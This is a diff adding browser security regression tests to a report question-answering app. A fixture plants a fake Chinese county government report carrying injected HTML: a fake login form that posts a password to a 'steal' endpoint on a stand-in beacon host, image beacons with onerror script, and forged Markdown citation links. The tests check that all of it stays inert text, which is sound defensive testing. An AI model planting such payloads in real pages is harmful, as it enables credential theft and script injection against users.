@@ -234,3 +234,86 @@ def test_compare_tab_renders_a_table(page, ui_services):
     page.locator("#rq-cmp-csv").get_by_text(".csv").first.wait_for()
     shot(page, "compare-laptop")
     shot(page, "compare-phone", PHONE)
+
+
+# -- security regressions (issue #11) -------------------------------------------------------------------------
+EVIL_REPORT = """云溪县2023年政府工作报告
+——2023年1月10日在云溪县第五届人民代表大会第二次会议上
+县长 林海
+各位代表：
+现在，我代表县人民政府向大会报告工作，请予审议。
+一、2022年工作回顾
+全县地区生产总值完成128亿元，增长6.1%。<form action="{beacon}/steal" method="post"><input type="password" name="pw" placeholder="请重新登录"><button>登录</button></form>
+全县城镇新增就业[1]达到5200人详见[就业报告](#cite-{target}@0:20)。<img src="{beacon}/beacon.png" onerror="document.title='pwned'">
+二、2023年工作安排
+全县地区生产总值增长6%左右，城镇新增就业5000人以上。<img src=x onerror="document.title='pwned'">
+"""
+
+
+@pytest.fixture
+def evil_report(ui_services, tmp_path):
+    """A report whose text carries HTML (a fake login form, beacons) and Markdown citation forgeries, added
+    after the app started (as another session's upload would be); removed afterwards."""
+    target = ui_services.store.chunk_ids()[0]
+    path = tmp_path / "yunxi_evil.txt"
+    path.write_text(EVIL_REPORT.format(beacon="http://127.0.0.1:9", target=target), encoding="utf-8")
+    assert ui_services.ingest([path])[0].status == "added"
+    yield "yunxi_evil"
+    ui_services.delete_report("yunxi_evil")
+
+
+def assert_inert(page) -> None:
+    """Nothing the report carried became markup: no form, no password box, no image beacon, no script run."""
+    assert page.locator("form, input[type=password], img[src*='127.0.0.1:9'], img[src='x']").count() == 0
+    assert page.title() != "pwned"
+
+
+def test_new_session_sees_reports_added_later_and_their_summary_is_text(browser, app_url, evil_report):
+    """A page opened after another session added a report lists it (lists load per session), its sources
+    open in the viewer, and its summary shows the report's HTML as text (stored HTML injection)."""
+    requests: list[str] = []
+    context = browser.new_context(viewport=LAPTOP, locale="zh-CN")
+    page = context.new_page()
+    page.set_default_timeout(TIMEOUT_MS)
+    page.on("request", lambda request: requests.append(request.url))
+    errors: list[str] = []
+    page.on("pageerror", lambda exc: errors.append(str(exc)))
+    try:
+        page.goto(app_url)
+        page.wait_for_selector("#rq-question textarea")
+        page.click("#rq-tab-reports-button")
+        page.locator("#rq-reports-table").get_by_text(evil_report, exact=True).wait_for()
+        page.locator("#rq-reports-table .body-cell").get_by_text(evil_report, exact=True).click()
+        summary = page.locator("#rq-summary")
+        summary.get_by_text("请重新登录").first.wait_for()  # the form markup, shown as text
+        assert "<form" in summary.inner_text()
+        cite = page.locator("#rq-summary a.rq-cite")
+        links = [cite.nth(i).get_attribute("href") for i in range(cite.count())]
+        assert links and all(href.startswith("#cite-yunxi_evil") for href in links), links  # no forged target
+        assert_inert(page)
+        shot(page, "security-summary")
+        # chat: a source from the report added after the app started opens in the viewer (no stale choices)
+        page.click("#rq-tab-chat-button")
+        ask(page, "云溪县2022年城镇新增就业多少人？")
+        page.locator("#rq-sources .rq-src").first.click()
+        page.wait_for_selector(f'#rq-viewer [data-report="{evil_report}"]', state="attached")
+        assert page.locator(".toast-body, .toast-wrap").filter(has_text="not in the list").count() == 0
+        assert_inert(page)
+        assert not any("127.0.0.1:9" in url for url in requests), requests
+    finally:
+        context.close()
+
+
+def test_report_text_cannot_forge_citation_links_in_the_chat(page, evil_report):
+    answer, _ = ask(page, "云溪县2022年城镇新增就业多少人？")
+    assert "5200人" in answer
+    chat = page.locator("#rq-chat")
+    assert chat.locator("a", has_text="就业报告").count() == 0  # the report's Markdown link stays text
+    links = chat.locator("a[href^='#cite-']")
+    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
+    texts = [links.nth(i).inner_text() for i in range(links.count())]
+    assert hrefs and all(h.startswith("#cite-yunxi_evil") for h in hrefs), hrefs  # not the forged target
+    assert all(t.startswith("[") and t.strip("[]").isdigit() for t in texts), texts
+    assert "［1］" in answer  # the report's own "[1]" is shown as text
+    assert_inert(page)
+    shot(page, "security-chat")
